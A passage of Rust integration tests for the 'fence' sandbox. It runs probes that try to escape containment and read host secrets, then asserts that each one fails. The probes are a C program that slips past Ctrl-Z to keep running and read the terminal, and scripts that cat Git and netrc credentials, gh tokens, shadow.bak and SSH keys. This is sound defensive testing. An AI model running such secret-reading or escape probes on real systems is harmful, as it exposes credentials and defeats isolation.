        shell_ran_on && text.contains("alive-42"),
        "the shell lost its terminal to a background session ({said}): {text}"
    );
    assert_eq!(
        now.c_cc[libc::VINTR],
        3,
        "the background session changed the terminal under the shell ({said}): {text}"
    );
    assert!(
        intruders.is_empty(),
        "a sandboxed process joined the shell's process group ({intruders:?}, {said}): {text}"
    );
}

/// Ctrl-Z stops fence only once nothing of the sandbox runs, and nothing runs again behind
/// the user's prompt: a process continued by the kernel after it was stopped (its process
/// group orphaned by a death the sandbox arranged while the init was stopping the others)
/// is stopped again, and what the user types at the prompt reaches the shell, not the
/// sandbox. The sandbox: Z (a session of its own) holds Y (a process group of its own,
/// with the terminal as stdin), which holds many idle processes and W; W waits for Y to
/// be stopped, then kills Z, so that the kernel continues Y; Y logs every 50 ms and copies
/// what it can read from the terminal.
fn a_process_continued_behind_the_prompt_is_stopped_again(w: &World) {
    continued_behind_the_prompt(w, Late::No);
}

/// The same, with the death arranged to come once everything is stopped: Z arms a POSIX
/// timer that sends it SIGKILL five seconds after Y is ready (a stopped process still dies
/// of SIGKILL), well after the stop has settled. The death wakes the init's walk at once:
/// also when Z's main thread has exited before (its other thread keeps it alive, while
/// `/proc/Z/stat` shows `Z`), which once kept it out of the processes watched.
fn a_process_continued_after_the_stop_settled_is_stopped_again(w: &World) {
    continued_behind_the_prompt(w, Late::Death);
    continued_behind_the_prompt(w, Late::DeathOfAThread);
}

/// When the death that orphans Y's group comes.
#[derive(Clone, Copy, PartialEq)]
enum Late {
    /// While the init is stopping the sandbox.
    No,
    /// Five seconds after Y is ready, by a timer.
    Death,
    /// The same, Z's main thread gone before (another thread keeps Z alive).
    DeathOfAThread,
}

fn continued_behind_the_prompt(w: &World, late: Late) {
    let test = if late == Late::No {
        "a_process_continued_behind_the_prompt_is_stopped_again"
    } else {
        "a_process_continued_after_the_stop_settled_is_stopped_again"
    };
    if !cc_ready(test) {
        return;
    }
    let src = r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <pthread.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
static int lone_log = -1;
static char state_of(pid_t p);
static void *lone_thread(void *x) {
    /* Says so once the main thread is gone (its state reads Z while this one runs). */
    while (state_of(getpid()) != 'Z') usleep(1000);
    dprintf(lone_log, "lone\n");
    for (;;) pause();
    return x;
}
static char state_of(pid_t p) {
    char path[64], b[512];
    snprintf(path, sizeof path, "/proc/%d/stat", p);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return '?';
    int n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0) return '?';
    b[n] = 0;
    char *r = strrchr(b, ')');
    return r ? r[2] : '?';
}
int main(int argc, char **argv) {
    int log = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
    int idle = atoi(argv[2]);
    int late = argc > 3 && strncmp(argv[3], "late", 4) == 0;
    int lone = argc > 3 && strcmp(argv[3], "late-lone") == 0;
    signal(SIGHUP, SIG_IGN);
    signal(SIGTSTP, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    signal(SIGTTOU, SIG_IGN);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            setpgid(0, 0);
            for (int i = 0; i < idle; i++)
                if (fork() == 0) for (;;) pause();
            pid_t z = getppid(), y = getpid();
            if (!late && fork() == 0) {
                while (state_of(y) != 'T') {}
                kill(z, SIGKILL);
                dprintf(log, "W killed Z\n");
                for (;;) pause();
            }
            dprintf(log, "ready\n");
            int fl = fcntl(0, F_GETFL);
            for (;;) {
                struct pollfd p = {0, POLLIN, 0};
                if (poll(&p, 1, 50) > 0 && (p.revents & POLLIN)) {
                    char b[256];
                    fcntl(0, F_SETFL, fl | O_NONBLOCK);
                    int n = read(0, b, sizeof b);
                    fcntl(0, F_SETFL, fl);
                    if (n > 0) { dprintf(log, "read: "); write(log, b, n); }
                }
                dprintf(log, "alive\n");
            }
        }
        if (late) {
            struct sigevent ev;
            memset(&ev, 0, sizeof ev);
            ev.sigev_notify = SIGEV_SIGNAL;
            ev.sigev_signo = SIGKILL;
            timer_t t;
            struct itimerspec in = {{0, 0}, {5, 0}};
            if (timer_create(CLOCK_MONOTONIC, &ev, &t) == 0 && timer_settime(t, 0, &in, 0) == 0)
                dprintf(log, "timer armed\n");
            if (lone) {
                lone_log = log;
                pthread_t th;
                pthread_create(&th, 0, lone_thread, 0);
                syscall(SYS_exit, 0);
            }
        }
        for (;;) pause();
    }
    for (;;) pause();
}
"#;
    let bin = w.compile_c("orphaned", src);
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    let shown_text = || String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
    let wait_for = |what: &str, secs: u64| {
        let started = Instant::now();
        while !shown_text().contains(what) && started.elapsed() < Duration::from_secs(secs) {
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    let fence = support::fence_binary();
    let mut shell = bash_on_terminal(
        w,
        &open_slave,
        &[("F", fence.as_os_str()), ("P", bin.as_os_str())],
    );
    let typed = |bytes: &[u8]| std::io::Write::write_all(&mut &master, bytes).unwrap();
    wait_for("bash-", 20);
    let log = w.worktree.join("orphaned.log");
    // A run before this one in the same worktree left its log.
    let _ = std::fs::remove_file(&log);
    let log_text = || std::fs::read_to_string(&log).unwrap_or_default();
    let (idle, mode) = match late {
        Late::No => (2500, ""),
        Late::Death => (50, "late"),
        Late::DeathOfAThread => (50, "late-lone"),
    };
    typed(
        format!("\"$F\" run --approver deny --quiet-blocks -- \"$P\" orphaned.log {idle} {mode} 2>/dev/null\n")
            .as_bytes(),
    );
    let started = Instant::now();
    let wanted = match late {
        Late::No => "ready",
        Late::Death => "timer armed",
        Late::DeathOfAThread => "lone",
    };
    while !(log_text().contains("ready") && log_text().contains(wanted))
        && started.elapsed() < Duration::from_secs(30)
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    let ready = Instant::now();
    typed(b"\x1a");
    wait_for("Stopped", 30);
    std::thread::sleep(Duration::from_millis(500));
    let stopped = log_text().matches("alive").count();
    if late != Late::No {
        // Past the timer's SIGKILL (five seconds after ready, when the init's timed walks
        // are 2 s apart), which orphans Y's group: the kernel continues it, and the walk
        // its death wakes stops it again.
        std::thread::sleep(Duration::from_millis(6_500).saturating_sub(ready.elapsed()));
    }
    let at_prompt = log_text().matches("alive").count();
    typed(b"echo typed-at-the-prompt\n");
    std::thread::sleep(Duration::from_millis(1500));
    let later = log_text().matches("alive").count();
    let text = shown_text();
    // fence is killed by its pid, not by a line typed at the prompt (which a sandbox
    // reading the terminal would take): its sandbox dies with it.
    let jobs = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", shell.id()))
        .unwrap_or_default();
    for pid in jobs
        .split_whitespace()
        .filter_map(|p| p.parse::<i32>().ok())
    {
        // SAFETY: kill of a child of the shell this test started.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
    std::thread::sleep(Duration::from_millis(300));
    let _ = shell.kill();
    let _ = shell.wait();
    let logged = log_text();
    assert!(
        text.contains("Stopped"),
        "fence did not stop on Ctrl-Z: {text}"
    );
    // Y logs every 50 ms: a few lines at most between its continuation and the walk
    // that stops it again, none once stopped again.
    assert!(
        at_prompt <= stopped + 5,
        "the sandbox ran on behind the prompt once the kernel continued it ({stopped} then {at_prompt} lines): {logged}\n{text}"
    );
    assert_eq!(
        at_prompt, later,
        "the sandbox ran behind the prompt: {logged}\n{text}"
    );
    assert!(
        !logged.contains("typed-at-the-prompt"),
        "the sandbox read what was typed at the prompt: {logged}"
    );
    assert!(
        text.matches("typed-at-the-prompt").count() >= 2,
        "the shell did not get the line typed at its prompt: {text}"
    );
}

/// With a mount view the sandbox has a devpts of its own: a program can make a
/// pseudo-terminal and use both sides (test runners, `script`, expect). In every mode no
/// terminal of the host is reachable: one the test opens, owned by the sandbox's user,
/// neither gives the sandbox what is typed on it nor shows what the sandbox writes.
fn pseudo_terminals_work_and_no_host_terminal_is_reachable(w: &World) {
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    std::fs::set_permissions(&slave_path, std::fs::Permissions::from_mode(0o666)).unwrap();
    // Keep the slave open here so that the line discipline holds what is typed.
    let _slave = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&slave_path)
        .unwrap();
    std::io::Write::write_all(&mut &master, b"TYPED-ON-HOST\n").unwrap();
    let out = w.python(&format!(
        r#"import os
for flags in [os.O_RDONLY, os.O_WRONLY, os.O_RDWR]:
    try:
        fd = os.open({slave_path:?}, flags | os.O_NONBLOCK | os.O_NOCTTY)
        try:
            print("read", os.read(fd, 100))
        except OSError as e:
            print("read refused", e.errno)
        try:
            os.write(fd, b"FROM-SANDBOX\n")
        except OSError as e:
            print("write refused", e.errno)
    except OSError as e:
        print("refused", e.errno)
try:
    m, s = os.openpty()
    os.write(s, b"ping\n")
    print("own pty", os.read(m, 100))
except OSError as e:
    print("no pty", e.errno)
"#
    ));
    let text = stdout(&out);
    assert!(
        text.contains("pty"),
        "the probe did not run: {text} {}",
        stderr(&out)
    );
    assert!(
        !text.contains("TYPED-ON-HOST"),
        "a host terminal was read: {text}"
    );
    let mut got = [0u8; 256];
    // SAFETY: a non-blocking read of our own descriptor.
    let n = unsafe {
        let fd = std::os::fd::AsRawFd::as_raw_fd(&master);
        libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
        libc::read(fd, got.as_mut_ptr().cast(), got.len())
    };
    let shown = if n > 0 {
        String::from_utf8_lossy(&got[..n as usize]).into_owned()
    } else {
        String::new()
    };
    assert!(
        !shown.contains("FROM-SANDBOX"),
        "the sandbox wrote to a host terminal: {shown}"
    );
    if w.who != support::Who::UnprivilegedWithoutNamespaces {
        assert!(
            text.contains("own pty b'ping"),
            "no pseudo-terminal inside: {text} {}",
            stderr(&out)
        );
    }
}

/// Secrets the host rewrites during the session stay unreadable: `git credential-store`
/// replaces `~/.git-credentials` by a rename of `.git-credentials.lock`, staged before the
/// session started (a bind of the staged file would show the new secret under its old
/// name), a `~/.netrc` is removed and made again, and a folder above a missing secret is
/// moved aside and made anew with the secret in it. (A cover mounted on the host's own
/// name would go with it.)
fn a_secret_the_host_replaces_during_the_session_stays_unreadable(w: &World) {
    for (rel, text) in [
        (".git-credentials", "https://me:CRED-ORIGINAL@example.com\n"),
        (".git-credentials.lock", "https://me:CRED-NEW@example.com\n"),
        (".netrc", "machine x password NETRC-ORIGINAL\n"),
        (".config/other.txt", "plain\n"),
    ] {
        let p = w.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
        w.own(&p);
    }
    w.own(&w.home.join(".config"));
    w.write(
        "s.sh",
        &format!(
            "cat {h}/.git-credentials {h}/.netrc\n\
             while [ ! -e go ]; do sleep 0.05; done\n\
             cat {h}/.git-credentials {h}/.git-credentials.lock {h}/.netrc {h}/.config/gh/hosts.yml {h}/.config.old/other.txt\n\
             echo read-done > done\n",
            h = w.home.display()
        ),
    );
    let child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    let h = &w.home;
    std::fs::rename(h.join(".git-credentials.lock"), h.join(".git-credentials")).unwrap();
    std::fs::remove_file(h.join(".netrc")).unwrap();
    std::fs::write(h.join(".netrc"), "machine x password NETRC-NEW\n").unwrap();
    std::fs::rename(h.join(".config"), h.join(".config.old")).unwrap();
    std::fs::create_dir_all(h.join(".config/gh")).unwrap();
    std::fs::write(h.join(".config/gh/hosts.yml"), "oauth_token: GH-NEW\n").unwrap();
    for p in [".git-credentials", ".netrc", ".config/gh/hosts.yml"] {
        std::fs::set_permissions(h.join(p), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    for p in [".config", ".config/gh"] {
        std::fs::set_permissions(h.join(p), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let text = stdout(&out);
    assert!(
        w.worktree.join("done").exists(),
        "the probe did not run to its end: {}",
        stderr(&out)
    );
    for marker in ["CRED-", "NETRC-", "GH-NEW"] {
        assert!(!text.contains(marker), "{marker} leaked: {text}");
    }
}

/// Secrets outside the home directory stay unreadable when the host rewrites them: a
/// `--deny-read` file replaced by a rename (`sed -i`, an editor), and one reached through
/// symbolic links that the host re-points (`..data -> ..v2`, as Kubernetes swaps secret
/// volumes).
fn a_secret_outside_home_replaced_or_relinked_on_the_host_stays_unreadable(w: &World) {
    let app = w.outside.join("app");
    let sa = w.outside.join("sa");
    std::fs::create_dir_all(&app).unwrap();
    std::fs::create_dir_all(sa.join("..v1")).unwrap();
    std::fs::write(app.join("app.env"), "DB_PASSWORD=APP-ORIGINAL\n").unwrap();
    std::fs::write(sa.join("..v1/token"), "TOKEN-V1\n").unwrap();
    std::os::unix::fs::symlink("..v1", sa.join("..data")).unwrap();
    std::os::unix::fs::symlink("..data/token", sa.join("token")).unwrap();
    for p in [
        app.clone(),
        app.join("app.env"),
        sa.clone(),
        sa.join("..v1"),
        sa.join("..v1/token"),
        sa.join("..data"),
        sa.join("token"),
    ] {
        w.own(&p);
        if !p.is_symlink() {
            let mode = if p.is_dir() { 0o755 } else { 0o644 };
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
        }
    }
    let (env, token) = (app.join("app.env"), sa.join("token"));
    w.write(
        "s.sh",
        &format!(
            "cat {e} {t}\necho started > started\nwhile [ ! -e go ]; do sleep 0.05; done\ncat {e} {t}\necho read-done > done\n",
            e = env.display(),
            t = token.display()
        ),
    );
    let child = w
        .fence(&[
            "--deny-read".as_ref(),
            env.as_os_str(),
            "--deny-read".as_ref(),
            token.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "s.sh".as_ref(),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The host changes them once the sandbox runs (not while fence prepares it).
    let deadline = Instant::now() + Duration::from_secs(60);
    while !w.worktree.join("started").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::write(app.join(".app.env.new"), "DB_PASSWORD=APP-NEW\n").unwrap();
    std::fs::set_permissions(
        app.join(".app.env.new"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::rename(app.join(".app.env.new"), &env).unwrap();
    std::fs::create_dir_all(sa.join("..v2")).unwrap();
    std::fs::write(sa.join("..v2/token"), "TOKEN-V2\n").unwrap();
    std::fs::set_permissions(sa.join("..v2"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        sa.join("..v2/token"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::os::unix::fs::symlink("..v2", sa.join("..data.tmp")).unwrap();
    std::fs::rename(sa.join("..data.tmp"), sa.join("..data")).unwrap();
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let text = stdout(&out);
    assert!(
        w.worktree.join("done").exists(),
        "the probe did not run to its end: {}",
        stderr(&out)
    );
    for marker in ["APP-", "TOKEN-"] {
        assert!(!text.contains(marker), "{marker} leaked: {text}");
    }
}

/// Debian's daily copy of the password hashes (`/var/backups/shadow.bak`, root's, mode 0600,
/// outside the `/etc` a root session sees shifted) is unreadable to a root session, with
/// namespaces or without. One is made for the test where the host has none.
#[test]
fn debians_copy_of_the_password_hashes_is_unreadable_to_a_root_session() {
    let test = "debians_copy_of_the_password_hashes_is_unreadable_to_a_root_session";
    let Some(w) = World::new(test, support::Who::Root) else {
        return;
    };
    struct Removed(Option<std::path::PathBuf>);
    impl Drop for Removed {
        fn drop(&mut self) {
            if let Some(p) = &self.0 {
                let _ = std::fs::remove_file(p);
            }
        }
    }
    let copy = Path::new("/var/backups/shadow.bak");
    let _removed = if copy.symlink_metadata().is_err() {
        std::fs::create_dir_all("/var/backups").unwrap();
        std::fs::write(copy, "root:$6$FENCE-TEST-HASH:20000:0:99999:7:::\n").unwrap();
        std::fs::set_permissions(copy, std::fs::Permissions::from_mode(0o600)).unwrap();
        Removed(Some(copy.to_path_buf()))
    } else {
        Removed(None)
    };
    let text = std::fs::read_to_string(copy).unwrap();
    let first = text.lines().next().unwrap_or_default().to_string();
    assert!(!first.is_empty());
    for without_namespaces in [false, true] {
        if without_namespaces && support::effective_landlock_abi() < 6 {
            support::skip(
                test,
                "without namespaces: Landlock ABI below 6, fence run refuses",
            );
            continue;
        }
        let mut cmd = w.fence(&[
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            "cat /var/backups/shadow.bak; echo rc=$?".as_ref(),
        ]);
        if without_namespaces {
            cmd.env("FENCE_NO_NAMESPACES", "1");
        }
        let out = cmd.output().unwrap();
        assert!(
            !stdout(&out).contains(&first) && stdout(&out).contains("rc=1"),
            "namespaces: {}: {}{}",
            !without_namespaces,
            stdout(&out),
            stderr(&out)
        );
    }
}

/// Files only root may read in /etc (a TLS key's folder, a service's password file, any
/// the SPEC's list does not name) are unreadable to a root session as to any user: root's
/// files there are nobody's to the sandbox, which runs without capabilities. Also one the
/// host makes, or renames over a readable one, during the session; the readable ones read
/// as before.
fn root_only_files_in_etc_are_unreadable_to_every_session(w: &World) {
    let test = "root_only_files_in_etc_are_unreadable_to_every_session";
    if w.who == support::Who::Root {
        let fs = std::process::Command::new("stat")
            .args(["-f", "-c", "%T", "/etc"])
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
            .unwrap_or_default();
        let v = kernel_version();
        let idmaps = v >= (5, 12)
            && match fs.as_str() {
                "ext2/ext3" | "xfs" | "btrfs" => true,
                "tmpfs" => v >= (6, 3),
                "overlayfs" => v >= (5, 19),
                _ => false,
            };
        if !idmaps {
            support::skip(
                test,
                &format!(
                    "Linux {}.{} cannot idmap /etc on {fs}: a root session reads root's other files there (docs/run.md)",
                    v.0, v.1
                ),
            );
            return;
        }
    }
    struct Removed(Vec<std::path::PathBuf>);
    impl Drop for Removed {
        fn drop(&mut self) {
            for p in &self.0 {
                let _ = std::fs::remove_file(p);
            }
        }
    }
    let tag = format!("{}-{:?}", std::process::id(), w.who).to_lowercase();
    let etc = |name: &str| std::path::PathBuf::from(format!("/etc/fence-{name}-{tag}"));
    let (only, group, open, made, staged) = (
        etc("root-only"),
        etc("root-group"),
        etc("open"),
        etc("made"),
        etc("staged"),
    );
    let _removed = Removed(vec![
        only.clone(),
        group.clone(),
        open.clone(),
        made.clone(),
        staged.clone(),
    ]);
    let put = |p: &Path, text: &str, mode: u32| {
        std::fs::write(p, text).unwrap();
        std::os::unix::fs::chown(p, Some(0), Some(0)).unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    put(&only, "ROOT-ONLY-SECRET\n", 0o600);
    put(&group, "ROOT-GROUP-SECRET\n", 0o640);
    put(&open, "OPEN-BEFORE\n", 0o644);
    let names = format!(
        "{} {} {} {}",
        only.display(),
        group.display(),
        open.display(),
        made.display()
    );
    let child = w.start_script(&format!(
        "cat {names} 2>&1\nwhile [ ! -e go ]; do sleep 0.05; done\ncat {names} 2>&1\necho read-done > done\n"
    ));
    std::thread::sleep(Duration::from_millis(700));
    put(&made, "MADE-DURING-SECRET\n", 0o600);
    put(&staged, "RENAMED-OVER-SECRET\n", 0o600);
    std::fs::rename(&staged, &open).unwrap();
    let out = w.finish_script(child);
    let text = stdout(&out);
    assert!(
        text.contains("OPEN-BEFORE"),
        "a readable file was not read: {text}"
    );
    assert!(
        text.contains("Permission denied"),
        "no refusal by permission: {text}"
    );
    for marker in ["ROOT-ONLY", "ROOT-GROUP", "MADE-DURING", "RENAMED-OVER"] {
        assert!(!text.contains(marker), "{marker} was read: {text}");
    }
    // A root that is also in `nogroup` (65534, what the kernel shows for an id without a
    // mapping) gets no group rights to root's group's files there.
    if w.who == support::Who::Root {
        let out = std::process::Command::new("setpriv")
            .args(["--groups", "0,65534", "--"])
            .arg(support::fence_binary())
            .args(["run", "--", "cat"])
            .arg(&group)
            .current_dir(&w.worktree)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", &w.home)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let (text, err) = (stdout(&out), stderr(&out));
        assert!(
            err.contains("Permission denied"),
            "not refused by permission (setpriv?): {text} {err}"
        );
        assert!(!text.contains("ROOT-GROUP"), "read as nogroup: {text}");
    }
}

/// A device node outside /dev (a chroot's, an initramfs tree's) gives no device: with a
/// mount view every mount but the device list's has no devices.
fn a_device_node_outside_dev_gives_no_device(w: &World) {
    let test = "a_device_node_outside_dev_gives_no_device";
    if w.who == support::Who::UnprivilegedWithoutNamespaces {
        support::skip(
            test,
            "without a mount namespace a device node the user may open outside /dev stays reachable (docs/run.md, known gaps)",
        );
        return;
    }
    let node = w.outside.join("zero");
    let c = std::ffi::CString::new(node.as_os_str().as_bytes()).unwrap();
    // SAFETY: mknod with a NUL-terminated path (the tests run as root).
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 5)) };
    assert_eq!(made, 0, "mknod: {}", std::io::Error::last_os_error());
    std::fs::set_permissions(&node, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = w.python(&format!(
        r#"import os
try:
    fd = os.open({n:?}, os.O_RDONLY)
    print("opened", len(os.read(fd, 8)))
except OSError as e:
    print("refused", e.errno)
"#,
        n = node.display()
    ));
    let text = stdout(&out);
    assert!(
        text.contains("refused"),
        "a device outside /dev opened: {text} {}",
        stderr(&out)
    );
}

/// A directory descriptor from outside would lead around the sandbox's mount view (`..`
/// from it walks the host's own mounts): as standard input it is refused (exit 125); passed
/// with `--pass-fd`, the secrets stay unreadable through it.
fn a_directory_descriptor_from_outside_reaches_no_secret(w: &World) {
    std::fs::create_dir_all(w.home.join(".ssh")).unwrap();
    std::fs::write(w.home.join(".ssh/id_ed25519"), "DIRFD-KEY-MATERIAL").unwrap();
    for p in [w.home.join(".ssh"), w.home.join(".ssh/id_ed25519")] {
        w.own(&p);
    }
    let home_name = w.home.file_name().unwrap().to_str().unwrap().to_string();
    let probe = format!(
        r#"import os, sys
fd = int(sys.argv[1])
for rel in ["../{home_name}/.ssh/id_ed25519", "{home}/.ssh/id_ed25519"]:
    try:
        print(os.read(os.open(rel, os.O_RDONLY, dir_fd=fd), 100))
    except OSError as e:
        print("refused", e.errno)
    try:
        print(open("/proc/self/fd/%d/%s" % (fd, rel), "rb").read())
    except OSError as e:
        print("refused", e.errno)
"#,
        home = w.home.display()
    );
    w.write("probe.py", &probe);
    // As standard input: refused before anything runs.
    let out = w
        .fence(&[
            "--".as_ref(),
            PYTHON.as_ref(),
            "probe.py".as_ref(),
            "0".as_ref(),
        ])
        .stdin(std::fs::File::open(&w.worktree).unwrap())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("descriptor 0 is a directory"),
        "{}",
        stderr(&out)
    );
    assert!(!stdout(&out).contains("KEY-MATERIAL"));
    // Passed on purpose.
    let dir = std::fs::File::open(&w.worktree).unwrap();
    let fd = std::os::fd::AsRawFd::as_raw_fd(&dir);
    // SAFETY: clearing close-on-exec on our own descriptor so that fence inherits it.
    unsafe { libc::fcntl(fd, libc::F_SETFD, 0) };
    let n = fd.to_string();
    let out = w
        .fence(&[
            "--pass-fd".as_ref(),
            n.as_ref(),
            "--".as_ref(),
            PYTHON.as_ref(),
            "probe.py".as_ref(),
            n.as_ref(),
        ])
        .output()
        .unwrap();
    let text = stdout(&out);
    assert!(
        text.contains("refused"),
        "the probe did not run: {text} {}",
        stderr(&out)
    );
    assert!(
        !text.contains("KEY-MATERIAL"),
        "a secret was read through the descriptor: {text}"
    );
}

/// A read-only mount of the host inside the worktree stays read-only in the sandbox (the
/// view made the worktree's mounts writable again recursively, this one with them).
fn a_read_only_host_mount_inside_the_worktree_stays_read_only(w: &World) {
    let test = "a_read_only_host_mount_inside_the_worktree_stays_read_only";
    let source = w.outside.join("ro-src");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::write(source.join("file"), "original\n").unwrap();
    w.own(&source);
    w.own(&source.join("file"));
    let point = w.mkdir("ro");
    let mount = |args: &[&OsStr]| std::process::Command::new("mount").args(args).status();
    match mount(&["--bind".as_ref(), source.as_os_str(), point.as_os_str()]) {
        Ok(s) if s.success() => {}
        other => {
            support::skip(test, &format!("mount --bind failed: {other:?}"));
            return;
        }
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(point.clone());
    let remounted = mount(&["-o".as_ref(), "remount,bind,ro".as_ref(), point.as_os_str()]);
    assert!(remounted.is_ok_and(|s| s.success()), "remount read-only");
    // And a writable one beside it, which stays writable.
    let rw_source = w.outside.join("rw-src");
    std::fs::create_dir_all(&rw_source).unwrap();
    w.own(&rw_source);
    let rw_point = w.mkdir("rw");
    let bound = mount(&[
        "--bind".as_ref(),
        rw_source.as_os_str(),
        rw_point.as_os_str(),
    ]);
    assert!(bound.is_ok_and(|s| s.success()), "bind the writable mount");
    let _unmount_rw = Unmount(rw_point.clone());
    w.write(
        "s.sh",
        "echo changed > ro/file; echo status=$?; echo written > rw/file; echo ok > inside.txt\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("inside.txt")).unwrap_or_default(),
        "ok\n",
        "the worktree was not writable: {}",
        stderr(&out)
    );
    assert_unchanged(&source.join("file"), "original\n");
    assert_eq!(
        std::fs::read_to_string(rw_source.join("file")).unwrap_or_default(),
        "written\n",
        "a writable mount inside the worktree was not writable: {}",
        stderr(&out)
    );
}

/// Without a terminal of its own (standard descriptors redirected), the sandbox has no
/// controlling terminal: `/dev/tty` does not reach the terminal of the shell that started
/// fence (what the user types there, and what it shows).
fn without_a_session_terminal_dev_tty_reaches_nothing(w: &World) {
    let test = "without_a_session_terminal_dev_tty_reaches_nothing";
    if missing_tool(test, "script", "no script(1)") {
        return;
    }
    w.write(
        "probe.py",
        r#"import os
try:
    fd = os.open("/dev/tty", os.O_RDWR)
    os.write(fd, b"TTY-REACHED\n")
    print("opened")
except OSError as e:
    print("refused", e.errno)
"#,
    );
    let fence = support::fence_binary().display().to_string();
    let inner =
        format!("{fence} run -- {PYTHON} probe.py </dev/null >probe.out 2>&1; echo script-done");
    let out = w
        .command_as_runner("script")
        .args(["-qec", &inner, "/dev/null"])
        .output()
        .unwrap();
    let shown = stdout(&out);
    assert!(shown.contains("script-done"), "{shown} {}", stderr(&out));
    let report = std::fs::read_to_string(w.worktree.join("probe.out")).unwrap_or_default();
    assert!(
        report.contains("refused") || report.contains("opened"),
        "{report}"
    );
    assert!(
        !shown.contains("TTY-REACHED"),
        "the sandbox wrote to the terminal: {shown}"
    );
}

/// The sandbox's first process is a copy of the supervisor: seen from outside, it holds
/// nothing of it — its own name, no command line of fence's (the `--deny-read` paths), no
/// environment (the credentials fence scrubs), no descriptor but 0–2 and the channel.
fn the_sandboxs_first_process_holds_nothing_of_the_supervisors(w: &World) {
    let secret = w.write_outside("hidden-folder-name", "x");
    w.write(
        "s.sh",
        "touch ready; while [ ! -e go ]; do sleep 0.02; done; touch done\n",
    );
    let key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYcopiedEXAMPLEKEY";
    let child = w
        .fence(&[
            "--deny-read".as_ref(),
            secret.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "s.sh".as_ref(),
        ])
        .env("AWS_SECRET_ACCESS_KEY", key)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !w.worktree.join("ready").exists() {
        assert!(std::time::Instant::now() < deadline, "the script never ran");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    // The shim is the supervisor's child (of whichever thread cloned it).
    let tasks = std::fs::read_dir(format!("/proc/{}/task", child.id())).unwrap();
    let shim: u32 = tasks
        .flatten()
        .flat_map(|t| {
            std::fs::read_to_string(t.path().join("children"))
                .unwrap_or_default()
                .split_whitespace()
                .map(|p| p.parse::<u32>().unwrap())
                .collect::<Vec<_>>()
        })
        .next()
        .expect("the supervisor has no child");
    let read = |what: &str| std::fs::read(format!("/proc/{shim}/{what}")).unwrap();
    let comm = read("comm");
    let cmdline = read("cmdline");
    let environ = read("environ");
    let fds: Vec<String> = std::fs::read_dir(format!("/proc/{shim}/fd"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    assert!(w.worktree.join("done").exists(), "{}", stderr(&out));
    assert_eq!(comm, b"fence-shim\n");
    let shown = String::from_utf8_lossy(&cmdline);
    assert!(
        !shown.contains("hidden-folder-name") && !shown.contains("s.sh"),
        "the shim shows the supervisor's command line: {shown:?}"
    );
    assert!(
        !String::from_utf8_lossy(&environ).contains("copiedEXAMPLE"),
        "the shim holds the supervisor's environment"
    );
    let mut fds: Vec<u32> = fds.iter().map(|f| f.parse().unwrap()).collect();
    fds.sort_unstable();
    assert!(
        fds.iter().all(|f| *f <= 3),
        "the shim holds descriptors of the supervisor's: {fds:?}"
    );
}

/// A refusal while the program holds the terminal (raw mode: an agent's full-screen
